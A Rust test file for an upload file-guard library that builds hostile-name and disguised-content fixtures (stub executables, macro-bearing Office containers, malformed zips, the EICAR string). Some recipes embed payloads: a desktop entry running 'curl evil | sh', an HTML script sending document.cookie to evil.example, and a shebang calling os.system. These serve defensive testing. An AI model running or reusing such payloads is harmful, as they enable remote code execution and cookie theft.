//! The file-guard corpus (`tests/corpus/files/`): hostile names (`names.tsv`) and disguised
//! contents (`contents.tsv`), built here from the recipes the corpus names so no binary
//! fixture is committed. Each case must give exactly the expected safe name or verdict and
//! exactly the expected reason codes; every failing case is listed with its line.

mod common;

use std::collections::BTreeSet;

use parley_guard::file::{FileRules, Verdict, inspect_bytes, safe_name};

/// Expands `\u{…}`, `\0`, `\t`, `\n`, `\r`, `\\` and `{TEXT*N}`.
fn unescape(field: &str) -> String {
    let mut out = String::new();
    let mut chars = field.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('u') => {
                    assert_eq!(chars.next(), Some('{'), "bad escape in {field:?}");
                    let hex: String = chars.by_ref().take_while(|&c| c != '}').collect();
                    let code = u32::from_str_radix(&hex, 16).unwrap_or_else(|e| panic!("{field:?}: {e}"));
                    out.push(char::from_u32(code).unwrap_or_else(|| panic!("{field:?}: not a char")));
                }
                Some('0') => out.push('\0'),
                Some('t') => out.push('\t'),
                Some('n') => out.push('\n'),
                Some('r') => out.push('\r'),
                Some('\\') => out.push('\\'),
                other => panic!("bad escape \\{other:?} in {field:?}"),
            },
            '{' => {
                // Up to the matching `}`, keeping escapes (`\u{…}`) whole.
                let mut inner = String::new();
                while let Some(c) = chars.next() {
                    match c {
                        '}' => break,
                        '\\' => {
                            inner.push(c);
                            let escaped = chars.next().unwrap_or_else(|| panic!("bad escape in {field:?}"));
                            inner.push(escaped);
                            if escaped == 'u' {
                                inner.extend(chars.by_ref().take_while(|&c| c != '}'));
                                inner.push('}');
                            }
                        }
                        c => inner.push(c),
                    }
                }
                let (text, count) =
                    inner.rsplit_once('*').unwrap_or_else(|| panic!("bad repeat in {field:?}"));
                let count: usize = count.parse().unwrap_or_else(|e| panic!("{field:?}: {e}"));
                out.push_str(&unescape(text).repeat(count));
            }
            c => out.push(c),
        }
    }
    out
}

fn codes_of(field: &str) -> BTreeSet<String> {
    if field == "-" { BTreeSet::new() } else { field.split(',').map(str::to_owned).collect() }
}

/// Non-comment lines with their 1-based line numbers, split on tabs.
fn rows(relative: &str) -> Vec<(usize, Vec<String>)> {
    let path = common::corpus(relative);
    let data =
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()));
    data.lines()
        .enumerate()
        .filter(|(_, line)| !line.is_empty() && !line.starts_with('#'))
        .map(|(n, line)| (n + 1, line.split('\t').map(str::to_owned).collect()))
        .collect()
}

#[test]
fn names() {
    let mut failures = Vec::new();
    let rows = rows("files/names.tsv");
    for (line, cols) in &rows {
        assert!(cols.len() >= 3, "names.tsv:{line}: expected at least 3 columns");
        let declared = unescape(&cols[0]);
        let expected = unescape(&cols[1]);
        let safe = safe_name(&declared);
        let got: BTreeSet<String> = safe.reasons.iter().map(|r| r.code.as_str().to_owned()).collect();
        let want = codes_of(&cols[2]);
        if safe.name != expected || got != want || safe.changed != (declared != expected) {
            failures.push(format!(
                "names.tsv:{line} {declared:?}: got {:?} {got:?}, expected {expected:?} {want:?}",
                safe.name
            ));
        }
    }
    println!("{} name cases", rows.len());
    assert!(rows.len() >= 70, "the name corpus shrank");
    assert!(failures.is_empty(), "{} name cases failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn contents() {
    let rules = FileRules::default();
    let mut failures = Vec::new();
    let rows = rows("files/contents.tsv");
    let mut ids = BTreeSet::new();
    let mut verdicts = [0usize; 3];
    for (line, cols) in &rows {
        assert!(cols.len() >= 6, "contents.tsv:{line}: expected at least 6 columns");
        assert!(ids.insert(cols[0].clone()), "contents.tsv:{line}: duplicate id {}", cols[0]);
        let name = unescape(&cols[1]);
        let mime = (cols[2] != "-").then_some(cols[2].as_str());
        let bytes = recipe(&cols[3]);
        let expected: Verdict = serde_json::from_value(cols[4].clone().into())
            .unwrap_or_else(|e| panic!("contents.tsv:{line}: bad verdict: {e}"));
        let want = codes_of(&cols[5]);
        let report = inspect_bytes(&bytes, &name, mime, &rules);
        let got: BTreeSet<String> = report.reasons.iter().map(|r| r.code.as_str().to_owned()).collect();
        verdicts[report.verdict as usize] += 1;
        if report.verdict != expected || got != want {
            failures.push(format!(
                "contents.tsv:{line} {}: got {:?} {got:?}, expected {expected:?} {want:?} (detected {:?})",
                cols[0],
                report.verdict,
                report.detected_type.as_ref().map(|t| t.mime.as_str())
            ));
        }
        // Every report must serialise to the parleyctl contract.
        let json = serde_json::to_value(&report).unwrap_or_default();
        assert!(json["verdict"].is_string() && json["safe_name"].is_string() && json["reasons"].is_array());
    }
    println!(
        "{} content cases: {} allow, {} warn, {} block",
        rows.len(),
        verdicts[0],
        verdicts[1],
        verdicts[2]
    );
    assert!(rows.len() >= 70, "the content corpus shrank");
    assert!(failures.is_empty(), "{} content cases failed:\n{}", failures.len(), failures.join("\n"));
}

/// The bytes a recipe of `contents.tsv` describes (see the corpus README).
fn recipe(spec: &str) -> Vec<u8> {
    if let Some((first, rest)) = spec.split_once('+') {
        let mut bytes = recipe(first);
        bytes.extend(recipe(rest));
        return bytes;
    }
    let (kind, arg) = spec.split_once(':').unwrap_or((spec, ""));
    match kind {
        "pe" => pe(false),
        "pe-dll" => pe(true),
        "dos" => {
            let mut bytes = vec![0u8; 64];
            bytes[..2].copy_from_slice(b"MZ");
            bytes[2..6].copy_from_slice(&[0x90, 0, 3, 0]);
            bytes
        }
        "elf" => b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec(),
        "macho" => [&[0xCF, 0xFA, 0xED, 0xFE, 0x07, 0, 0, 0x01][..], &[0; 24]].concat(),
        "macho-fat" => [&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2][..], &[0, 0, 0, 7, 0, 0, 0, 3], &[0; 16]].concat(),
        "class" => [&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x34][..], &[0; 16]].concat(),
        "dex" => {
            let mut bytes = b"dex\n035\0".to_vec();
            bytes.resize(112, 0);
            bytes[36] = 0x70;
            bytes
        }
        "lnk" => {
            let mut bytes = vec![0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
            bytes.resize(76, 0);
            bytes
        }
        "shebang" => format!("#!/usr/bin/env {arg}\nimport os; os.system('id')\n").into_bytes(),
        "url-shortcut" => b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n".to_vec(),
        "desktop-entry" => b"[Desktop Entry]\nType=Application\nName=CV\nExec=sh -c 'curl evil | sh'\n".to_vec(),
        "pdf" => b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n".to_vec(),
        "png" => b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec(),
        "jpeg" => b"\xFF\xD8\xFF\xE0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0".to_vec(),
        "gif" => b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04".to_vec(),
        "7z" => b"7z\xBC\xAF\x27\x1C\0\x04\x8d\x9b\xd5\x0f\0\0\0\0".to_vec(),
        "html" => b"<!DOCTYPE html>\n<html><body><script>location='https://evil.example/'+document.cookie</script></body></html>\n".to_vec(),
        "svg" => b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n".to_vec(),
        "rtf" => b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Dear customer}".to_vec(),
        "text" => unescape(arg).into_bytes(),
        // Put together here so that antivirus on a developer's machine leaves this file alone.
        "eicar" => [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat().into_bytes(),
        "empty" => Vec::new(),
        "binary" => [0x00, 0xFF, 0x13, 0x37].repeat(64),
        "zip" => zip(&arg.split(',').map(|n| Entry::new(&unescape(n))).collect::<Vec<_>>()),
        "zip-encrypted" => zip(&[Entry { encrypted: true, ..Entry::new(arg) }]),
        "zip-symlink" => zip(&[Entry { symlink: true, ..Entry::new(arg) }]),
        "zip-unicode-path" => {
            let (name, real) = arg.split_once('=').unwrap_or((arg, arg));
            zip(&[Entry { unicode: Some(real.to_owned()), ..Entry::new(name) }])
        }
        "zip-truncated" => {
            let mut bytes = zip(&[Entry::new("a.txt"), Entry::new("b.txt")]);
            bytes.truncate(60);
            bytes
        }
        "jar" => zip(&[Entry::new("META-INF/MANIFEST.MF"), Entry::new("com/example/Main.class")]),
        "apk" => zip(&[Entry::new("AndroidManifest.xml"), Entry::new("classes.dex"), Entry::new("res/icon.png")]),
        "msix" => zip(&[Entry::new("AppxManifest.xml"), Entry::new("[Content_Types].xml"), Entry::new("app.exe")]),
        "ooxml-docx" => ooxml("word", None),
        "ooxml-docm" => ooxml("word", Some("word/vbaProject.bin")),
        "ooxml-xlsm" => ooxml("xl", Some("xl/vbaProject.bin")),
        "ooxml-xlsx-macrosheet" => ooxml("xl", Some("xl/macrosheets/sheet1.xml")),
        "ole-doc" => ole(None, &["WordDocument", "1Table"]),
        "ole-doc-macros" => ole(None, &["WordDocument", "Macros", "VBA"]),
        "ole-xls-macros" => ole(None, &["Workbook", "_VBA_PROJECT_CUR"]),
        "ole-msi" => ole(Some([0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]), &["\u{4840}\u{3F3F}"]),
        other => panic!("unknown recipe {other:?}"),
    }
}

fn pe(dll: bool) -> Vec<u8> {
    let mut bytes = vec![0u8; 1024];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3C] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes()); // x86-64
    bytes[0x86..0x88].copy_from_slice(&1u16.to_le_bytes()); // one section
    let characteristics: u16 = if dll { 0x2022 } else { 0x0022 };
    bytes[0x96..0x98].copy_from_slice(&characteristics.to_le_bytes());
    bytes
}

fn ooxml(part: &str, extra: Option<&str>) -> Vec<u8> {
    let mut entries = vec![
        Entry::new("[Content_Types].xml"),
        Entry::new("_rels/.rels"),
        Entry::new(&format!("{part}/_rels/document.xml.rels")),
        Entry::new(&format!("{part}/document.xml")),
    ];
    entries.extend(extra.map(Entry::new));
    zip(&entries)
}

struct Entry {
    name: String,
    encrypted: bool,
    symlink: bool,
    unicode: Option<String>,
}

impl Entry {
    fn new(name: &str) -> Self {
        Self { name: name.to_owned(), encrypted: false, symlink: false, unicode: None }
    }
}

/// A stored zip (APPNOTE 4.3.7 local headers, 4.3.12 central directory, 4.3.16 end record).
fn zip(entries: &[Entry]) -> Vec<u8> {
    let u16_of = |n: usize| u16::try_from(n).unwrap_or(u16::MAX).to_le_bytes();
    let u32_of = |n: usize| u32::try_from(n).unwrap_or(u32::MAX).to_le_bytes();
    let mut out = Vec::new();
    let mut directory = Vec::new();
    for entry in entries {
        let content: &[u8] = if entry.name.ends_with('/') { b"" } else { b"content\n" };
        let flags = u16::from(entry.encrypted);
        let mut extra = Vec::new();
        if let Some(unicode) = &entry.unicode {
            extra.extend_from_slice(&0x7075u16.to_le_bytes());
            extra.extend_from_slice(&u16_of(5 + unicode.len()));
            extra.push(1);
            extra.extend_from_slice(&[0; 4]); // CRC-32 of the header name (not checked by Parley)
            extra.extend_from_slice(unicode.as_bytes());
        }
        let offset = out.len();
        out.extend_from_slice(b"PK\x03\x04\x14\0");
        out.extend_from_slice(&flags.to_le_bytes());
        out.extend_from_slice(&[0; 10]); // method, time, date, CRC
        out.extend_from_slice(&u32_of(content.len()));
        out.extend_from_slice(&u32_of(content.len()));
        out.extend_from_slice(&u16_of(entry.name.len()));
        out.extend_from_slice(&u16_of(extra.len()));
        out.extend_from_slice(entry.name.as_bytes());
        out.extend_from_slice(&extra);
        out.extend_from_slice(content);

        let made_by: u16 = if entry.symlink { 0x031E } else { 0x0014 };
        let external: u32 = if entry.symlink { 0o120_777 << 16 } else { 0 };
        directory.extend_from_slice(b"PK\x01\x02");
        directory.extend_from_slice(&made_by.to_le_bytes());
        directory.extend_from_slice(&[0x14, 0]);
        directory.extend_from_slice(&flags.to_le_bytes());
        directory.extend_from_slice(&[0; 10]);
        directory.extend_from_slice(&u32_of(content.len()));
        directory.extend_from_slice(&u32_of(content.len()));
        directory.extend_from_slice(&u16_of(entry.name.len()));
        directory.extend_from_slice(&u16_of(extra.len()));
        directory.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
        directory.extend_from_slice(&external.to_le_bytes());
        directory.extend_from_slice(&u32_of(offset));
        directory.extend_from_slice(entry.name.as_bytes());
        directory.extend_from_slice(&extra);
    }
    let cd_offset = out.len();
    out.extend_from_slice(&directory);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&u16_of(entries.len()));
    out.extend_from_slice(&u16_of(entries.len()));
    out.extend_from_slice(&u32_of(directory.len()));
    out.extend_from_slice(&u32_of(cd_offset));
    out.extend_from_slice(&[0, 0]);
    out
}

/// A compound file ([MS-CFB]) with one FAT sector and one directory sector holding a root
/// entry (with `clsid`) and up to three streams.
fn ole(clsid: Option<[u8; 16]>, streams: &[&str]) -> Vec<u8> {
    let mut file = vec![0u8; 512 * 3];
    file[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    let mut put = |at: usize, bytes: &[u8]| file[at..at + bytes.len()].copy_from_slice(bytes);
    put(0x18, &[0x3E, 0, 3, 0, 0xFE, 0xFF, 9, 0, 6, 0]); // versions, byte order, sector shifts
    put(0x2C, &1u32.to_le_bytes()); // one FAT sector
    put(0x30, &1u32.to_le_bytes()); // the directory starts at sector 1
    put(0x38, &4096u32.to_le_bytes());
    put(0x3C, &0xFFFF_FFFEu32.to_le_bytes());
    put(0x44, &0xFFFF_FFFEu32.to_le_bytes());
    put(0x4C, &0u32.to_le_bytes()); // the FAT is sector 0
    for i in 1..109 {
        put(0x4C + 4 * i, &u32::MAX.to_le_bytes());
    }
    put(512, &0xFFFF_FFFDu32.to_le_bytes()); // sector 0: FAT
    put(516, &0xFFFF_FFFEu32.to_le_bytes()); // sector 1: end of the directory chain
    for i in 2..128 {
        put(512 + 4 * i, &u32::MAX.to_le_bytes());
    }
    for (i, name) in std::iter::once("Root Entry").chain(streams.iter().copied().take(3)).enumerate() {
        let at = 1024 + 128 * i;
        let units: Vec<u8> = name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
        put(at, &units);
        put(at + 64, &u16::try_from(units.len()).unwrap_or(64).to_le_bytes());
        put(at + 66, &[if i == 0 { 5 } else { 2 }]);
        if let (0, Some(clsid)) = (i, clsid) {
            put(at + 80, &clsid);
        }
    }
    file
}
